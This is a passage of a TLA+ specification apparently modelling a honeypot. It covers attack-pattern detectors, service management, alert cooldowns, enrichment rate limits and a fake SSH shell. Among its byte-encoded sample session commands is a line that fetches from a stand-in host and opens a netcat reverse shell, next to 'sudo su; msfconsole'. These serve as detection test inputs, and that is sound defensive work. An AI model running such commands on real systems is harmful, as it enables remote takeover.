            <<115, 117, 100, 111, 32, 115, 117>>   \* sudo su
          >>]>>

\* _detect_automated_tools(commands)
detect_automated_tools(commands) ==
    LET detected_tools ==
            SelectSeq(tool_signatures,
                      LAMBDA tool : \E i \in 1..Len(commands) :
                                        AnyIn(tool.signatures, Lower(commands[i].command)))
    IN  IF detected_tools = <<>> THEN NoPattern
        ELSE <<[pattern_type     |-> "automated_tools",
                severity         |-> "high",
                indicators       |-> [detected_tools |-> Len(detected_tools),
                                      total_commands |-> Len(commands)],
                occurrence_count |-> Len(detected_tools),
                confidence_score |-> Min100(Len(detected_tools) * 30)]>>

\* analyze_session(session_data): the list it returns, or the exception that
\* leaves it
analyze_session(session_data) ==
    LET source_ip     == session_data.source_ip
        auth_attempts == session_data.auth_attempts
        commands      == session_data.commands
    IN  IF Len(auth_attempts) > 5 /\ BruteForceRaises(auth_attempts)
        THEN [kind |-> "raised", patterns |-> <<>>]
        ELSE [kind |-> "returned",
              patterns |->
                  (IF Len(auth_attempts) > 5
                   THEN detect_brute_force(source_ip, auth_attempts) ELSE <<>>)
                  \o (IF auth_attempts # <<>>
                      THEN detect_credential_stuffing(source_ip, auth_attempts) ELSE <<>>)
                  \o (IF commands # <<>>
                      THEN detect_reconnaissance(source_ip, commands) ELSE <<>>)
                  \o (IF commands # <<>>
                      THEN detect_automated_tools(commands) ELSE <<>>)]

\* the pairs (username, password) that have both fields, over a batch
RECURSIVE BatchCredentials(_)
BatchCredentials(sessions) ==
    IF sessions = <<>> THEN <<>>
    ELSE Credentials(Head(sessions).auth_attempts) \o BatchCredentials(Tail(sessions))

\* cred_to_ips[cred]
CredToIps(sessions, cred) ==
    {sessions[i].source_ip : i \in {j \in 1..Len(sessions) :
                                       cred \in SeqRange(Credentials(sessions[j].auth_attempts))}}

\* the keys of a dict in insertion order: each element of s once, at the
\* place of its first occurrence
InsertionOrder(s) ==
    LET first == {i \in 1..Len(s) : \A j \in 1..(i - 1) : s[j] # s[i]}
    IN  [k \in 1..Cardinality(first) |->
            s[CHOOSE i \in first : Cardinality({j \in first : j < i}) = k - 1]]

\* p[:3] + "***"
Redact(p) == SubSeq(p, 1, IF Len(p) < 3 THEN Len(p) ELSE 3) \o <<42, 42, 42>>

\* a threshold of two sources
IpThreshold_two(n) == n >= 2

\* `len(ips) >= 3`
IpThreshold(n) == n >= 3

\* detect_distributed_attack raises: min() over start_time values of which
\* one is None
DistributedRaises(sessions) ==
    \E i \in 1..Len(sessions) : sessions[i].start_time.kind = "none"

\* detect_distributed_attack(sessions)
detect_distributed_attack(sessions) ==
    LET creds             == InsertionOrder(BatchCredentials(sessions))
        distributed_creds == SelectSeq(creds,
                                 LAMBDA c : IpThreshold(Cardinality(CredToIps(sessions, c))))
        all_ips           == UNION {CredToIps(sessions, c) : c \in SeqRange(distributed_creds)}
        shown             == SubSeq(distributed_creds, 1,
                                    IF Len(distributed_creds) < 10
                                    THEN Len(distributed_creds) ELSE 10)
    IN  IF Len(sessions) < 3 THEN [kind |-> "returned", patterns |-> NoPattern]
        ELSE IF distributed_creds = <<>> THEN [kind |-> "returned", patterns |-> NoPattern]
        ELSE IF DistributedRaises(sessions) THEN [kind |-> "raised", patterns |-> <<>>]
        ELSE [kind |-> "returned",
              patterns |->
                <<[pattern_type     |-> "distributed_attack",
                   severity         |-> "critical",
                   indicators       |->
                       [ip_count   |-> Cardinality(all_ips),
                        source_ips |-> all_ips,
                        common_credentials |->
                            [k \in 1..Len(shown) |->
                                [username |-> shown[k][1],
                                 password |-> Redact(shown[k][2]),
                                 ip_count |-> Cardinality(CredToIps(sessions, shown[k]))]]],
                   occurrence_count |-> Len(distributed_creds),
                   confidence_score |-> Min100(Cardinality(all_ips) * 10)]>>]

\* no call made yet
NoResult == [kind |-> "none", patterns |-> <<>>]

\* how the attempts of a session come about: the peer tries the first pair of
\* its list `hammer` times, then goes round the list of `wordlist` pairs;
\* `blank` says which field every fourth attempt lacks; `ts` is the kind of
\* the timestamps of the records
NoPlan == [wordlist |-> 0, hammer |-> 0, blank |-> "never", ts |-> "iso"]

PdWordlists == {1, 3, 7, 9, 12}

\* the records the honeypots write: every entry has an ISO timestamp
PdPlans ==
    [wordlist : PdWordlists, hammer : {0, 3},
     blank : {"never", "password", "username"}, ts : {"iso"}]

\* records from elsewhere, with no or an unreadable timestamp
PdBadPlans ==
    [wordlist : {1, 12}, hammer : {0}, blank : {"never"}, ts : {"none", "garbage"}]

\* a source address, as its four octets
IpOf(k) == <<10, 0, 0, k>>

\* the i-th AuthAttempt of a session that follows the plan
PdAttempt(plan, i) ==
    LET k == IF i <= plan.hammer THEN 1 ELSE ((i - plan.hammer - 1) % plan.wordlist) + 1
    IN  [timestamp |-> Timestamp(plan.ts, i),
         username  |-> IF plan.blank = "username" /\ i % 4 = 0 THEN None ELSE <<117, 64 + k>>,
         password  |-> IF plan.blank = "password" /\ i % 4 = 0 THEN <<>> ELSE <<112, 64 + k>>,
         success   |-> FALSE]

PdNewSessionData ==
    [source_ip |-> IpOf(1), auth_attempts |-> <<>>, commands |-> <<>>]

PdInit ==
    /\ pd_pc = "idle"
    /\ pd_plan = NoPlan
    /\ pd_session = PdNewSessionData
    /\ pd_result = NoResult
    /\ pd_batch = <<>>
    /\ pd_found = NoResult

\* a session begins
PdNewSession ==
    /\ pd_pc \in {"idle", "analyzed"}
    /\ pd_pc' = "open"
    /\ pd_plan' = NoPlan
    /\ pd_session' = PdNewSessionData
    /\ pd_result' = NoResult
    /\ UNCHANGED <<pd_batch, pd_found>>
    /\ UNCHANGED exceptPd

\* the session gets one more AuthAttempt
PdRecord(plans) ==
    /\ pd_pc = "open"
    /\ Len(pd_session.auth_attempts) < MaxAttempts
    /\ Len(pd_session.commands) <= 1
    /\ \E plan \in plans :
          /\ pd_session.auth_attempts # <<>> => plan = pd_plan
          /\ pd_plan' = plan
          /\ pd_session' =
                [pd_session EXCEPT !.auth_attempts =
                    Append(@, PdAttempt(plan, Len(pd_session.auth_attempts) + 1))]
    /\ UNCHANGED <<pd_pc, pd_result, pd_batch, pd_found>>
    /\ UNCHANGED exceptPd

PdRecordAttempt == PdRecord(PdPlans)

PdRecordBadAttempt == PdRecord(PdBadPlans)

\* the commands of the recorded sessions
PdCommands ==
    {
     <<119, 104, 111, 97, 109, 105>>,   \* whoami
     <<117, 110, 97, 109, 101, 32, 45, 97>>,   \* uname -a
     <<101, 99, 104, 111, 32, 111, 107>>,   \* echo ok
     <<87, 71, 69, 84, 32, 104, 116, 116, 112, 58, 47, 47, 104, 47, 120, 59, 32, 110, 99, 32, 45, 101, 32, 47, 98, 105, 110, 47, 115, 104, 32, 104, 32, 49>>,   \* WGET http://h/x; nc -e /bin/sh h 1
     <<115, 117, 100, 111, 32, 115, 117, 59, 32, 109, 115, 102, 99, 111, 110, 115, 111, 108, 101>>,   \* sudo su; msfconsole
     <<32, 32, 76, 83, 32, 45, 108, 97, 32, 32>>   \*   LS -la  
    }

\* the session gets one more command
PdRecordCommand ==
    /\ pd_pc = "open"
    /\ Len(pd_session.commands) < (IF pd_session.auth_attempts = <<>> THEN MaxCommands ELSE 1)
    /\ \E command \in PdCommands :
          pd_session' =
              [pd_session EXCEPT !.commands =
                  Append(@, [timestamp |-> Timestamp("iso", Len(pd_session.commands) + 1),
                             command   |-> command])]
    /\ UNCHANGED <<pd_pc, pd_plan, pd_result, pd_batch, pd_found>>
    /\ UNCHANGED exceptPd

\* the commands of a session of shell commands only
PdReconCommands ==
    {
     <<101, 99, 104, 111, 32, 111, 107>>,   \* echo ok
     <<32, 32, 76, 83, 32, 45, 108, 97, 32, 32>>   \*   LS -la  
    }

\* a session without authentication gets one more command
PdRecordReconCommand ==
    /\ pd_pc = "open"
    /\ pd_session.auth_attempts = <<>>
    /\ Len(pd_session.commands) < MaxReconCommands
    /\ \E command \in PdReconCommands :
          pd_session' =
              [pd_session EXCEPT !.commands =
                  Append(@, [timestamp |-> Timestamp("iso", Len(pd_session.commands) + 1),
                             command   |-> command])]
    /\ UNCHANGED <<pd_pc, pd_plan, pd_result, pd_batch, pd_found>>
    /\ UNCHANGED exceptPd

\* analyze_session(session_data) at the end of the session
PdAnalyzeSession ==
    /\ pd_pc = "open"
    /\ pd_pc' = "analyzed"
    /\ pd_result' = analyze_session(pd_session)
    /\ UNCHANGED <<pd_plan, pd_session, pd_batch, pd_found>>
    /\ UNCHANGED exceptPd

PdBatchPlan == [wordlist |-> 2, hammer |-> 0, blank |-> "never", ts |-> "iso"]

\* the attempts of a session of a batch: the pair A, the pair B, both, or A
\* without its password
PdBatchAttempts ==
    {<<PdAttempt(PdBatchPlan, 1)>>,
     <<PdAttempt(PdBatchPlan, 2)>>,
     <<PdAttempt(PdBatchPlan, 1), PdAttempt(PdBatchPlan, 2)>>,
     <<[PdAttempt(PdBatchPlan, 1) EXCEPT !.password = <<>>]>>}

BatchIps(sessions) == {sessions[i].source_ip : i \in 1..Len(sessions)}

PdAppendSession(k, auth_attempts) ==
    /\ pd_batch' = Append(pd_batch,
                          [source_ip     |-> IpOf(k),
                           auth_attempts |-> auth_attempts,
                           start_time    |-> Timestamp("iso", Len(pd_batch) + 1)])
    /\ pd_pc' = "batch"
    /\ UNCHANGED <<pd_plan, pd_session, pd_result, pd_found>>
    /\ UNCHANGED exceptPd

\* a batch gets one more session, from an address seen before or from a new
\* one (addresses are numbered as they first appear)
PdAddSession ==
    /\ pd_pc \in {"idle", "batch"}
    /\ Len(pd_batch) < MaxBatch
    /\ \E k \in 1..(Cardinality(BatchIps(pd_batch)) + 1), auth_attempts \in PdBatchAttempts :
          PdAppendSession(k, auth_attempts)

\* a batch of sessions that all come from different addresses and try the
\* pair A gets one more of them
PdAddBot ==
    /\ pd_pc \in {"idle", "batch"}
    /\ Len(pd_batch) < MaxBots
    /\ Cardinality(BatchIps(pd_batch)) = Len(pd_batch)
    /\ \A i \in 1..Len(pd_batch) : pd_batch[i].auth_attempts = <<PdAttempt(PdBatchPlan, 1)>>
    /\ PdAppendSession(Len(pd_batch) + 1, <<PdAttempt(PdBatchPlan, 1)>>)

\* detect_distributed_attack(sessions) over the batch
PdDetectDistributed ==
    /\ pd_pc = "batch"
    /\ pd_pc' = "detected"
    /\ pd_found' = detect_distributed_attack(pd_batch)
    /\ UNCHANGED <<pd_plan, pd_session, pd_result, pd_batch>>
    /\ UNCHANGED exceptPd

PdNext ==
    \/ PdNewSession
    \/ PdRecordAttempt
    \/ PdRecordCommand
    \/ PdAnalyzeSession
    \/ PdAddSession
    \/ PdAddBot
    \/ PdDetectDistributed

\* long sessions of shell commands
PdReconNext ==
    \/ PdNewSession
    \/ PdRecordReconCommand
    \/ PdAnalyzeSession

\* the same, with records that did not come from the honeypots
PdAnyNext ==
    \/ PdNewSession
    \/ PdRecordAttempt
    \/ PdRecordBadAttempt
    \/ PdRecordCommand
    \/ PdAnalyzeSession
    \/ PdAddSession
    \/ PdAddBot
    \/ PdDetectDistributed

----------------------------------------------------------------------------
(* ServiceManager *)

\* self.services, with every service enabled
Services == {"ssh", "http", "telnet", "ftp"}

\* the services whose start() binds a socket itself and then stays in a loop
\* of blocking accept() calls; HTTPHoneypot.start() leaves the listener to a
\* Flask thread and sleeps with await
SocketServices == {"ssh", "telnet", "ftp"}

\* status.error = None
NoError == "None"

\* the state of run(), of the signal handler and of monitor_services
smRunVars == <<sm_run, sm_shutdown, sm_signal, sm_monitor, sm_restart, sm_restarts, sm_stop_calls>>

\* ServiceStatus(name)
ServiceStatus == [running |-> FALSE, error |-> NoError]

\* `service.start()` itself raises: start is an async def function (and an
\* AsyncMock in the tests), so the call only makes the coroutine object
StartCallRaises(name) == FALSE

SmInit ==
    /\ sm_status = [name \in Services |-> ServiceStatus]
    /\ sm_task = [name \in Services |-> "none"]
    /\ sm_returns = [name \in Services |-> "none"]
    /\ sm_events = {}
    /\ sm_loop = "free"
    /\ sm_run = "starting"
    /\ sm_shutdown = FALSE
    /\ sm_signal = "none"
    /\ sm_monitor = "none"
    /\ sm_restart = "none"
    /\ sm_restarts = 0
    /\ sm_stop_calls = {}

\* _start_service(name, service), one of the tasks of start_all
SmStartService ==
    /\ sm_loop = "free"
    /\ \E name \in Services :
          /\ sm_returns[name] = "none"
          /\ IF ~StartCallRaises(name)
             THEN /\ sm_task' = [sm_task EXCEPT ![name] = "pending"]
                  /\ sm_status' = [sm_status EXCEPT ![name] =
                                      [running |-> TRUE, error |-> NoError]]
                  /\ sm_events' = sm_events \cup {<<"service_started", name>>}
                  /\ sm_returns' = [sm_returns EXCEPT ![name] = "True"]
             ELSE /\ sm_task' = sm_task
                  /\ sm_status' = [sm_status EXCEPT ![name] =
                                      [running |-> FALSE, error |-> "start() raised"]]
                  /\ sm_events' = sm_events \cup {<<"service_start_failed", name>>}
                  /\ sm_returns' = [sm_returns EXCEPT ![name] = "False"]
    /\ UNCHANGED sm_loop
    /\ UNCHANGED smRunVars
    /\ UNCHANGED exceptSm

\* the event loop runs the task of service.start(): the bind fails and the
\* exception ends the task, or the service listens (a socket service then
\* keeps the loop in its accept loop). The loop runs its callbacks in the
\* order they were queued: the _start_service tasks of start_all come before
\* the tasks they create.
SmTaskRun ==
    /\ sm_loop = "free"
    /\ \A other \in Services : sm_returns[other] # "none"
    /\ \E name \in Services, bind_ok \in BOOLEAN :
          /\ sm_task[name] = "pending"
          /\ name \notin SocketServices => bind_ok
          /\ sm_task' = [sm_task EXCEPT ![name] = IF bind_ok THEN "serving" ELSE "failed"]
          /\ sm_loop' = IF bind_ok /\ name \in SocketServices THEN name ELSE "free"
    /\ UNCHANGED <<sm_status, sm_returns, sm_events>>
    /\ UNCHANGED smRunVars
    /\ UNCHANGED exceptSm

\* SIGTERM or SIGINT reaches the process while run() is under way
SmSignal ==
    /\ sm_signal = "none"
    /\ sm_run # "done"
    /\ sm_signal' = "pending"
    /\ UNCHANGED <<sm_status, sm_task, sm_returns, sm_events, sm_loop, sm_run, sm_shutdown,
                   sm_monitor, sm_restart, sm_restarts, sm_stop_calls>>
    /\ UNCHANGED exceptSm

\* the handler of loop.add_signal_handler, which the event loop calls
SmSignalHandler ==
    /\ sm_loop = "free"
    /\ sm_signal = "pending"
    /\ sm_signal' = "handled"
    /\ sm_shutdown' = TRUE
    /\ UNCHANGED <<sm_status, sm_task, sm_returns, sm_events, sm_loop, sm_run, sm_monitor,
                   sm_restart, sm_restarts, sm_stop_calls>>
    /\ UNCHANGED exceptSm

\* run(): start_all has returned (its gather wakes up after the start()
\* tasks queued before it have had their turn) and the monitor task is created
SmRunStartMonitor ==
    /\ sm_loop = "free"
    /\ sm_run = "starting"
    /\ \A name \in Services : sm_returns[name] # "none" /\ sm_task[name] # "pending"
    /\ sm_run' = "waiting"
    /\ sm_monitor' = "running"
    /\ UNCHANGED <<sm_status, sm_task, sm_returns, sm_events, sm_loop, sm_shutdown, sm_signal,
                   sm_restart, sm_restarts, sm_stop_calls>>
    /\ UNCHANGED exceptSm

\* run(): the `while not self.shutdown_requested` loop ends, the monitor
\* task is cancelled and awaited (a restart it is in the middle of is given
\* up at its await)
SmRunWake ==
    /\ sm_loop = "free"
    /\ sm_run = "waiting"
    /\ sm_shutdown
    /\ sm_run' = "stopping"
    /\ sm_monitor' = "stopped"
    /\ sm_restart' = "none"
    /\ UNCHANGED <<sm_status, sm_task, sm_returns, sm_events, sm_loop, sm_shutdown, sm_signal,
                   sm_restarts, sm_stop_calls>>
    /\ UNCHANGED exceptSm

\* the state of status.task after _stop_service: a task that is not done is
\* cancelled
TaskAfterStop(task) == IF task \in {"pending", "serving"} THEN "cancelled" ELSE task

\* _stop_service(name, service), one of the tasks of stop_all, which makes
\* one for every service whose status.running is True
SmStopService ==
    /\ sm_loop = "free"
    /\ sm_run = "stopping"
    /\ \E name \in Services :
          /\ sm_status[name].running
          /\ sm_stop_calls' = sm_stop_calls \cup {name}
          /\ sm_task' = [sm_task EXCEPT ![name] = TaskAfterStop(@)]
          /\ sm_status' = [sm_status EXCEPT ![name].running = FALSE]
          /\ sm_events' = sm_events \cup {<<"service_stopped", name>>}
    /\ UNCHANGED <<sm_returns, sm_loop, sm_run, sm_shutdown, sm_signal, sm_monitor, sm_restart,
                   sm_restarts>>
    /\ UNCHANGED exceptSm

\* stop_all: the gather over its tasks returns and run() ends
SmStopAllDone ==
    /\ sm_loop = "free"
    /\ sm_run = "stopping"
    /\ \A name \in Services : ~sm_status[name].running
    /\ sm_run' = "done"
    /\ UNCHANGED <<sm_status, sm_task, sm_returns, sm_events, sm_loop, sm_shutdown, sm_signal,
                   sm_monitor, sm_restart, sm_restarts, sm_stop_calls>>
    /\ UNCHANGED exceptSm

\* monitor_services finds a service with status.running whose task is done
\* and calls restart_service, which first stops it (up to its sleep)
SmMonitorStop ==
    /\ sm_loop = "free"
    /\ sm_monitor = "running"
    /\ sm_restart = "none"
    /\ sm_restarts < MaxRestarts
    /\ \E name \in Services :
          /\ sm_status[name].running
          /\ sm_task[name] = "failed"
          /\ sm_restart' = name
          /\ sm_status' = [sm_status EXCEPT ![name] = [running |-> FALSE, error |-> "bind failed"]]
          /\ sm_events' = sm_events \cup {<<"service_failed", name>>, <<"service_stopped", name>>}
    /\ UNCHANGED <<sm_task, sm_returns, sm_loop, sm_run, sm_shutdown, sm_signal, sm_monitor,
                   sm_restarts, sm_stop_calls>>
    /\ UNCHANGED exceptSm

\* restart_service after its sleep: _start_service makes a new task
SmMonitorStart ==
    /\ sm_loop = "free"
    /\ sm_monitor = "running"
    /\ sm_restart # "none"
    /\ sm_task' = [sm_task EXCEPT ![sm_restart] = "pending"]
    /\ sm_status' = [sm_status EXCEPT ![sm_restart] = [running |-> TRUE, error |-> NoError]]
    /\ sm_events' = sm_events \cup {<<"service_started", sm_restart>>}
    /\ sm_restarts' = sm_restarts + 1
    /\ sm_restart' = "none"
    /\ UNCHANGED <<sm_returns, sm_loop, sm_run, sm_shutdown, sm_signal, sm_monitor, sm_stop_calls>>
    /\ UNCHANGED exceptSm

SmNext ==
    \/ SmStartService
    \/ SmTaskRun
    \/ SmSignal
    \/ SmSignalHandler
    \/ SmRunStartMonitor
    \/ SmRunWake
    \/ SmStopService
    \/ SmStopAllDone
    \/ SmMonitorStop
    \/ SmMonitorStart

----------------------------------------------------------------------------
(* AlertRule *)

\* AlertRule.__init__: last_fired = None
ArInit ==
    /\ ar_now = 0
    /\ ar_last_fired = <<>>
    /\ ar_calls = <<>>
    /\ ar_alerts = <<>>

\* a should_fire that does not look at last_fired
should_fire_noCooldown(last_fired, now, condition) == condition

\* the return value of should_fire(data) at the time `now`, for a rule with
\* this last_fired, when condition(data) is `condition`
should_fire(last_fired, now, condition) ==
    IF last_fired # <<>> /\ now - last_fired[1] < cooldown_seconds
    THEN FALSE
    ELSE condition

\* a second passes
ArTick ==
    /\ ar_now < MaxClock
    /\ ar_now' = ar_now + 1
    /\ UNCHANGED <<ar_last_fired, ar_calls, ar_alerts>>
    /\ UNCHANGED exceptAr

\* should_fire(data)
ArShouldFire ==
    /\ Len(ar_calls) < MaxCalls
    /\ \E condition \in BOOLEAN :
          ar_calls' = Append(ar_calls,
                             [at        |-> ar_now,
                              condition |-> condition,
                              result    |-> should_fire(ar_last_fired, ar_now, condition)])
    /\ UNCHANGED <<ar_now, ar_last_fired, ar_alerts>>
    /\ UNCHANGED exceptAr

\* create_alert(data)
ArCreateAlert ==
    /\ Len(ar_alerts) < MaxCalls
    /\ ar_last_fired' = <<ar_now>>
    /\ ar_alerts' = Append(ar_alerts, ar_now)
    /\ UNCHANGED <<ar_now, ar_calls>>
    /\ UNCHANGED exceptAr

ArNext ==
    \/ ArTick
    \/ ArShouldFire
    \/ ArCreateAlert

----------------------------------------------------------------------------
(* BaseEnricher *)

\* the length of the rate limit window: `current_time - self._window_start >= 60`
WindowSeconds == 60

\* the enricher is enabled (the default of __init__)
enabled == TRUE

\* a limit that lets one more request through
LimitReached_oneMore(request_count) == request_count > rate_limit

\* `if self._request_count >= self.rate_limit`
LimitReached(request_count) == request_count >= rate_limit

\* _check_rate_limit(): the return value and the state it leaves
check_rate_limit(window_start, request_count, current_time) ==
    LET reset == current_time - window_start >= WindowSeconds
        count == IF reset THEN 0 ELSE request_count
        start == IF reset THEN current_time ELSE window_start
    IN  IF LimitReached(count)
        THEN [allowed |-> FALSE, window_start |-> start, request_count |-> count]
        ELSE [allowed |-> TRUE, window_start |-> start, request_count |-> count + 1]

EnInit ==
    /\ en_now = 0
    /\ en_window_start = 0
    /\ en_request_count = 0
    /\ en_cache = {}
    /\ en_calls = <<>>

\* time passes
EnTick ==
    /\ \E d \in {20, WindowSeconds} :
          /\ en_now + d <= MaxTime
          /\ en_now' = en_now + d
    /\ UNCHANGED <<en_window_start, en_request_count, en_cache, en_calls>>
    /\ UNCHANGED exceptEn

\* the identifiers the callers ask about
EnIdentifiers == {"id1", "id2"}

\* what _enrich_impl does: it returns data (which the cache takes), returns
\* nothing, or raises
ImplOutcomes == {"data", "empty", "raises"}

\* what enrich() returns for each of them
ImplError(outcome) == IF outcome = "raises" THEN "impl failed" ELSE "None"

\* enrich(identifier)
EnEnrich ==
    /\ Len(en_calls) < MaxEnrich
    /\ \E identifier \in EnIdentifiers, outcome \in ImplOutcomes :
          LET check == check_rate_limit(en_window_start, en_request_count, en_now)
              call  == [at |-> en_now, identifier |-> identifier]
          IN  IF ~enabled
              THEN /\ en_calls' = Append(en_calls,
                                         call @@ [cached |-> FALSE, impl |-> FALSE,
                                                  window |-> en_window_start,
                                                  error |-> "Enricher disabled"])
                   /\ UNCHANGED <<en_window_start, en_request_count, en_cache>>
              ELSE IF identifier \in en_cache
              THEN /\ en_calls' = Append(en_calls,
                                         call @@ [cached |-> TRUE, impl |-> FALSE,
                                                  window |-> en_window_start,
                                                  error |-> "None"])
                   /\ UNCHANGED <<en_window_start, en_request_count, en_cache>>
              ELSE /\ en_window_start' = check.window_start
                   /\ en_request_count' = check.request_count
                   /\ IF ~check.allowed
                      THEN /\ en_calls' = Append(en_calls,
                                                 call @@ [cached |-> FALSE, impl |-> FALSE,
                                                          window |-> check.window_start,
                                                          error |-> "Rate limit exceeded"])
                           /\ UNCHANGED en_cache
                      ELSE /\ en_calls' = Append(en_calls,
                                                 call @@ [cached |-> FALSE, impl |-> TRUE,
                                                          window |-> check.window_start,
                                                          error |-> ImplError(outcome)])
                           /\ en_cache' = IF outcome = "data"
                                          THEN en_cache \cup {identifier} ELSE en_cache
    /\ UNCHANGED en_now
    /\ UNCHANGED exceptEn

EnNext ==
    \/ EnTick
    \/ EnEnrich

----------------------------------------------------------------------------
(* SSHHoneypot: the fake shell of _handle_channel *)

\* SSHHoneypot.FAKE_RESPONSES
FAKE_RESPONSES ==
    {
      [key   |-> <<119, 104, 111, 97, 109, 105>>,   \* "whoami"
       value |-> <<114, 111, 111, 116, 10>>],
      [key   |-> <<112, 119, 100>>,   \* "pwd"
       value |-> <<47, 114, 111, 111, 116, 10>>],
      [key   |-> <<117, 110, 97, 109, 101>>,   \* "uname"
       value |-> <<76, 105, 110, 117, 120, 10>>],
      [key   |-> <<117, 110, 97, 109, 101, 32, 45, 97>>,   \* "uname -a"
       value |-> <<76, 105, 110, 117, 120, 32, 117, 98, 117, 110, 116, 117, 32, 53, 46, 52, 46, 48, 45, 52,
                 50, 45, 103, 101, 110, 101, 114, 105, 99, 32, 35, 52, 54, 45, 85, 98, 117, 110, 116, 117,
                 32, 83, 77, 80, 32, 70, 114, 105, 32, 74, 117, 108, 32, 49, 48, 32, 48, 48, 58, 50,
                 52, 58, 48, 50, 32, 85, 84, 67, 32, 50, 48, 50, 48, 32, 120, 56, 54, 95, 54, 52,
                 32, 120, 56, 54, 95, 54, 52, 32, 120, 56, 54, 95, 54, 52, 32, 71, 78, 85, 47, 76,
                 105, 110, 117, 120, 10>>],
      [key   |-> <<105, 100>>,   \* "id"
       value |-> <<117, 105, 100, 61, 48, 40, 114, 111, 111, 116, 41, 32, 103, 105, 100, 61, 48, 40, 114, 111,
                 111, 116, 41, 32, 103, 114, 111, 117, 112, 115, 61, 48, 40, 114, 111, 111, 116, 41, 10>>],
      [key   |-> <<104, 111, 115, 116, 110, 97, 109, 101>>,   \* "hostname"
       value |-> <<117, 98, 117, 110, 116, 117, 45, 115, 101, 114, 118, 101, 114, 10>>],
      [key   |-> <<108, 115>>,   \* "ls"
       value |-> <<68, 101, 115, 107, 116, 111, 112, 32, 32, 68, 111, 99, 117, 109, 101, 110, 116, 115, 32, 32,
                 68, 111, 119, 110, 108, 111, 97, 100, 115, 32, 32, 77, 117, 115, 105, 99, 32, 32, 80, 105,
                 99, 116, 117, 114, 101, 115, 32, 32, 86, 105, 100, 101, 111, 115, 10>>],
      [key   |-> <<108, 115, 32, 45, 108, 97>>,   \* "ls -la"
       value |-> <<116, 111, 116, 97, 108, 32, 51, 50, 10, 100, 114, 119, 120, 114, 45, 120, 114, 45, 120, 32,
                 54, 32, 114, 111, 111, 116, 32, 114, 111, 111, 116, 32, 52, 48, 57, 54, 32, 78, 111, 118,
                 32, 49, 57, 32, 49, 48, 58, 48, 48, 32, 46, 10, 100, 114, 119, 120, 114, 45, 120, 114,
                 45, 120, 32, 51, 32, 114, 111, 111, 116, 32, 114, 111, 111, 116, 32, 52, 48, 57, 54, 32,
                 78, 111, 118, 32, 49, 57, 32, 48, 57, 58, 48, 48, 32, 46, 46, 10, 45, 114, 119, 45,
                 114, 45, 45, 114, 45, 45, 32, 49, 32, 114, 111, 111, 116, 32, 114, 111, 111, 116, 32, 32,
                 50, 50, 48, 32, 78, 111, 118, 32, 49, 57, 32, 48, 57, 58, 48, 48, 32, 46, 98, 97,
                 115, 104, 95, 108, 111, 103, 111, 117, 116, 10, 45, 114, 119, 45, 114, 45, 45, 114, 45, 45,
                 32, 49, 32, 114, 111, 111, 116, 32, 114, 111, 111, 116, 32, 51, 55, 55, 49, 32, 78, 111,
                 118, 32, 49, 57, 32, 48, 57, 58, 48, 48, 32, 46, 98, 97, 115, 104, 114, 99, 10, 100,
                 114, 119, 120, 114, 45, 120, 114, 45, 120, 32, 50, 32, 114, 111, 111, 116, 32, 114, 111, 111,
                 116, 32, 52, 48, 57, 54, 32, 78, 111, 118, 32, 49, 57, 32, 49, 48, 58, 48, 48, 32,
                 68, 101, 115, 107, 116, 111, 112, 10, 100, 114, 119, 120, 114, 45, 120, 114, 45, 120, 32, 50,
                 32, 114, 111, 111, 116, 32, 114, 111, 111, 116, 32, 52, 48, 57, 54, 32, 78, 111, 118, 32,
                 49, 57, 32, 49, 48, 58, 48, 48, 32, 68, 111, 99, 117, 109, 101, 110, 116, 115, 10>>]
    }

PROMPT == <<114, 111, 111, 116, 64, 117, 98, 117, 110, 116, 117, 45, 115, 101, 114, 118, 101, 114, 58, 126, 35, 32>>   \* "root@ubuntu-server:~# "

\* bytes.strip(): the ASCII whitespace bytes
IsByteSpace(c) == c \in {9, 10, 11, 12, 13, 32}

StripBytes(b) ==
    IF \A i \in 1..Len(b) : IsByteSpace(b[i]) THEN <<>>
    ELSE LET first == CHOOSE i \in 1..Len(b) : ~IsByteSpace(b[i]) /\ \A j \in 1..(i - 1) : IsByteSpace(b[j])
             last  == CHOOSE i \in 1..Len(b) : ~IsByteSpace(b[i]) /\ \A j \in (i + 1)..Len(b) : IsByteSpace(b[j])
         IN  SubSeq(b, first, last)

\* str.startswith
StartsWith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, 1, Len(p)) = p

\* a shell that has no answer of its own to "exit"
get_fake_response_noExit(command) ==
    IF \E e \in FAKE_RESPONSES : e.key = command
    THEN (CHOOSE e \in FAKE_RESPONSES : e.key = command).value
    ELSE LET cmd_lower == Strip(Lower(command))
         IN  IF StartsWith(cmd_lower, <<99, 97, 116, 32>>) \/ StartsWith(cmd_lower, <<109, 111, 114, 101, 32>>)
             THEN <<80, 101, 114, 109, 105, 115, 115, 105, 111, 110, 32, 100, 101, 110, 105, 101, 100, 10>>
             ELSE IF StartsWith(cmd_lower, <<99, 100, 32>>)
             THEN <<>>
             ELSE IF StartsWith(cmd_lower, <<119, 103, 101, 116, 32>>) \/ StartsWith(cmd_lower, <<99, 117, 114, 108, 32>>)
             THEN <<67, 111, 109, 109, 97, 110, 100, 32, 110, 111, 116, 32, 102, 111, 117, 110, 100, 10>>
             ELSE <<98, 97, 115, 104, 58, 32>> \o Split1(Strip(command))[1] \o <<58, 32, 99, 111, 109, 109, 97, 110, 100, 32, 110, 111, 116, 32, 102, 111, 117, 110, 100, 10>>

\* SSHHoneypot._get_fake_response for a command that has a first token
get_fake_response(command) ==
    IF \E e \in FAKE_RESPONSES : e.key = command
    THEN (CHOOSE e \in FAKE_RESPONSES : e.key = command).value
    ELSE LET cmd_lower == Strip(Lower(command))
         IN  IF StartsWith(cmd_lower, <<99, 97, 116, 32>>) \/ StartsWith(cmd_lower, <<109, 111, 114, 101, 32>>)
             THEN <<80, 101, 114, 109, 105, 115, 115, 105, 111, 110, 32, 100, 101, 110, 105, 101, 100, 10>>   \* "Permission denied\n"
             ELSE IF StartsWith(cmd_lower, <<99, 100, 32>>)
             THEN <<>>
             ELSE IF cmd_lower = <<101, 120, 105, 116>>
             THEN <<108, 111, 103, 111, 117, 116, 10>>   \* "logout\n"
             ELSE IF StartsWith(cmd_lower, <<119, 103, 101, 116, 32>>) \/ StartsWith(cmd_lower, <<99, 117, 114, 108, 32>>)
             THEN <<67, 111, 109, 109, 97, 110, 100, 32, 110, 111, 116, 32, 102, 111, 117, 110, 100, 10>>   \* "Command not found\n"
             ELSE <<98, 97, 115, 104, 58, 32>> \o Split1(Strip(command))[1] \o <<58, 32, 99, 111, 109, 109, 97, 110, 100, 32, 110, 111, 116, 32, 102, 111, 117, 110, 100, 10>>


